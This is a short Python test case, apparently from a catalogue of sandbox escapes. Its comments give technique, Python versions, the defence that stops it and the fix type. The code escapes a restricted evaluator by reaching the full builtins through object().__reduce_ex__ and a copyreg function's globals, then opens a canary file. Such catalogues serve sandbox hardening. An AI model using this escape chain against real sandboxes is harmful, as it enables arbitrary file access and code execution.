# id: object-reduce-ex-copyreg
# family: object-graph
# kind: escape
# invariant: D, E, G
# origin: asteval's table of unsafe attributes
# technique: object.__reduce_ex__ answers with a Python function of copyreg, whose globals hold the full builtins
# needs: any
# pythons: 3.11.2, 3.12.1, 3.13.0
# stopped-by: permits
# fix: structural
# alive-when: canary

import copy  # loads copyreg, which object.__reduce_ex__ then finds without an import

function = object().__reduce_ex__(2)[0]
print(function.__globals__["__builtins__"]["open"]("canary.txt").read())
